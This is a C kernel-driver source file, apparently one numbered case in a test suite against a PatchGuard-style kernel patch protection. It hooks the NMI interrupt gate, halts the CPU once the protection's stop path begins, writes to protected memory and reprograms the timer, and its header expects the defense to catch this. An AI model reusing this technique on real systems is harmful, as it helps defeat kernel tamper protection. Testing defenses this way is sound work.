/* attack_a146_nmi_window (A146): A140's NMI gate, halting in a detection before its NMI block.
 * The stop path blocks NMIs before its first line (A140), but a detection
 * outside a pass (pg_fail: the tick hook, the watchdog) first opens a
 * context and puts the stop path back from the context's copy, and only
 * then reports: thousands of instructions with NMIs open. This driver
 * takes, from the host, the built image's addresses of pg_fail (and of
 * the routine after it) and of the stop section's bounds, with printk's for the
 * kernel's random base. Once they are there it points the NMI's IDT gate
 * at a stub that chains to the kernel's NMI entry once per tick (A140)
 * and halts with NMIs blocked (no IRET) when PatchGuard's "stop path
 * begun" flag is set or the interrupted instruction lies in pg_fail or in
 * the stop section (or in a routine pg_fail calls just below it: its
 * copy of the byte repair), and sets PIT channel 0 to a reload of 10 counts (an
 * NMI every 8.4 us). Expected: 0x109 with its stop screen (before: the
 * machine halted inside the detection in `fast` and `windows`, no 0x109). */
#include "attack_pg.h"

#define VEC_NMI 2
#define PIT_CH0 0x40
#define PIT_CMD 0x43
#define PIT_CH0_MODE2 0x34

volatile uint64_t printk_at, pg_fail_at, pg_fail_end_at, stop_lo_at, stop_hi_at;

uint64_t attack_a146_original, attack_a146_lo1, attack_a146_hi1, attack_a146_lo2, attack_a146_hi2;
volatile bool *attack_a146_stopping;
volatile uint64_t *attack_a146_ticks;
uint64_t attack_a146_last = ~0ull;
void attack_a146_stub(void);
__asm__(".text\n.global attack_a146_stub\nattack_a146_stub:\n"
	"\tpushq %rax\n"
	"\tmovq attack_a146_stopping(%rip), %rax\n"
	"\tcmpb $0, (%rax)\n"
	"\tjne 2f\n"
	"\tmovq 8(%rsp), %rax\n" /* the interrupted RIP */
	"\tcmpq attack_a146_lo1(%rip), %rax\n"
	"\tjb 3f\n"
	"\tcmpq attack_a146_hi1(%rip), %rax\n"
	"\tjb 2f\n"
	"3:\tcmpq attack_a146_lo2(%rip), %rax\n"
	"\tjb 4f\n"
	"\tcmpq attack_a146_hi2(%rip), %rax\n"
	"\tjb 2f\n"
	"4:\tmovq attack_a146_ticks(%rip), %rax\n"
	"\tmovq (%rax), %rax\n"
	"\tcmpq attack_a146_last(%rip), %rax\n"
	"\tje 1f\n"
	"\tmovq %rax, attack_a146_last(%rip)\n"
	"\tpopq %rax\n"
	"\tjmp *attack_a146_original(%rip)\n"
	"1:\tpopq %rax\n"
	"\tiretq\n"
	"2:\tcli\n\thlt\n\tjmp 2b\n");

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct pg_state *pgs;

static void arm(struct dpc *d, void *ctx)
{
	if (!printk_at || !pg_fail_at || !pg_fail_end_at || !stop_lo_at || !stop_hi_at)
		return;
	timer_cancel(&wait_timer);
	uint64_t slide = (uint64_t)&printk - printk_at;
	uint64_t fail = pg_fail_at + slide, end = pg_fail_end_at + slide, lo = fail;
	if (end <= fail || end - fail > 0x400) {
		printk("attack_a146: pg_fail's layout not as expected\n");
		return;
	}
	/* The routines pg_fail calls just below it (its copy of the stop
	 * path's byte repair: the compare loop of every detection). */
	for (const uint8_t *p = (const uint8_t *)fail; (uint64_t)p + 5 <= end; p++)
		if (p[0] == 0xE8) {
			int32_t rel;
			memcpy(&rel, p + 1, 4);
			uint64_t t = (uint64_t)p + 5 + rel;
			if (t < lo && fail - t < 0x400)
				lo = t;
		}
	uint64_t pf = a_cli();
	attack_a146_lo1 = lo;
	attack_a146_hi1 = end;
	attack_a146_lo2 = stop_lo_at + slide;
	attack_a146_hi2 = stop_hi_at + slide;
	attack_a146_stopping = &pgs->stopping;
	attack_a146_ticks = a_find_tick_count();
	struct gate *g = a_idt() + VEC_NMI;
	struct gate ng = *g;
	attack_a146_original = a_gate_target(g);
	a_gate_point(&ng, (uint64_t)&attack_a146_stub);
	a_write_protected(g, &ng, sizeof ng);
	a_outb(PIT_CMD, PIT_CH0_MODE2);
	a_outb(PIT_CH0, 10);
	a_outb(PIT_CH0, 0);
	printk("attack_a146: the NMI gate halts inside pg_fail and the stop section, and once the stop path has begun\n");
	a_patched("attack_a146");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli();
	pgs = a_find_pg();
	a_restore(pf);
	if (!pgs) {
		printk("attack_a146: PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	dpc_init(&wait_dpc, arm, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 10000000ull, 10000000ull);
	printk("attack_a146: waiting for the addresses\n");
	return KPP_STATUS_SUCCESS;
}
